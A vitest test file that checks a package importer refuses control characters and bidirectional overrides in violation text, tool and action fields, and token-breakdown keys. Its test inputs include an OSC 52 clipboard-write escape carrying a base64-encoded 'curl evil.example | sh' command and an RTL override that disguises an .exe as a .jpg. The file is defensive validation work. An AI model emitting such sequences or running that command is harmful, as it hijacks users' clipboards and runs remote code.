import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectRefused, json, postZip, timelineOf, upstreamEvidence } from '../../../helpers/import-fixtures';
import { createTestContext, type TestContext } from '../../../helpers/test-app';
import { buildZip } from '../../../helpers/zip-builder';

// A package is text from elsewhere that the CLI and the viewer show again: its violation rules and
// messages, breakdown keys, tools and actions may carry no control character or bidirectional
// override. Each is refused with 400 invalid_package naming the entry and the field, and the
// store is left as it was.

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const HOSTILE = [
  ['OSC 52', `x${OSC52}`],
  ['CSI as one C1 character', 'x\u009b2J'],
  ['an RTL override', 'x\u202egpj.exe'],
] as const;

const violation = (extra: object) => ({
  id: 'vio_pt_1',
  rule: 'tool.blocked',
  severity: 'high',
  message: 'curl is blocked',
  timeline_index: null,
  ...extra,
});

function scanDocument(id: string, extra: object = {}) {
  return {
    id,
    created_at: '2026-11-01T00:00:00.000Z',
    tool: 'cursor',
    action: 'chat',
    tokens: timelineOf(2).reduce((sum, entry) => sum + entry.tokens, 0),
    status: 'completed',
    violations: [],
    ...extra,
  };
}

describe('control characters and bidirectional overrides in packages', () => {
  let ctx: TestContext;
  beforeAll(async () => {
    ctx = await createTestContext();
  });
  afterAll(() => ctx.close());

  it('imports such packages when their text is plain', async () => {
    const evidence = upstreamEvidence('scan_pt_ok', timelineOf(2), {
      violations: [violation({ rule: 'Über-Regel 名前', message: 'a\u200bb "quoted" \\ backslash' })],
      token_breakdown: { 'cache read': 1 },
    });
    const response = await postZip(ctx, buildZip([{ name: 'evidence.json', data: json(evidence) }]));
    expect(response.statusCode, response.body).toBe(201);
  });

  describe.each(HOSTILE)('%s', (_, text) => {
    it('in a violation rule or message of the evidence', async () => {
      for (const field of ['rule', 'message'] as const) {
        const evidence = upstreamEvidence('scan_pt_v', timelineOf(2), { violations: [violation({ [field]: text })] });
        await expectRefused(
          ctx,
          buildZip([{ name: 'evidence.json', data: json(evidence) }]),
          'evidence.json',
          new RegExp(
            `evidence\\.violations\\.0\\.${field} must not contain control characters or bidirectional overrides`,
          ),
        );
      }
    });

    it('in a violation of the scan document', async () => {
      const scan = scanDocument('scan_pt_s', { violations: [violation({ message: text })] });
      const zip = buildZip([
        { name: 'evidence.json', data: json(upstreamEvidence('scan_pt_s', timelineOf(2))) },
        { name: 'scan.json', data: json(scan) },
      ]);
      await expectRefused(ctx, zip, 'scan.json', /violations\.0\.message must not contain control characters/);
    });

    it('in the tool or action of the scan document', async () => {
      for (const field of ['tool', 'action'] as const) {
        const zip = buildZip([
          { name: 'evidence.json', data: json(upstreamEvidence('scan_pt_t', timelineOf(2))) },
          { name: 'scan.json', data: json(scanDocument('scan_pt_t', { [field]: text })) },
        ]);
        await expectRefused(ctx, zip, 'scan.json', new RegExp(`${field} must not be only spaces or contain control`));
      }
    });

    it('in a token_breakdown key', async () => {
      const evidence = upstreamEvidence('scan_pt_b', timelineOf(2), { token_breakdown: { input: 1, [text]: 2 } });
      await expectRefused(
        ctx,
        buildZip([{ name: 'evidence.json', data: json(evidence) }]),
        'evidence.json',
        /evidence\.token_breakdown a key must not contain control characters/,
      );
    });

    it('in a timeline entry action', async () => {
      const timeline = timelineOf(3);
      timeline[2]!.action = text;
      await expectRefused(
        ctx,
        buildZip([{ name: 'evidence.json', data: json(upstreamEvidence('scan_pt_a', timeline)) }]),
        'evidence.json',
        /evidence\.timeline\.2\.action must not be only spaces or contain control/,
      );
    });
  });
});
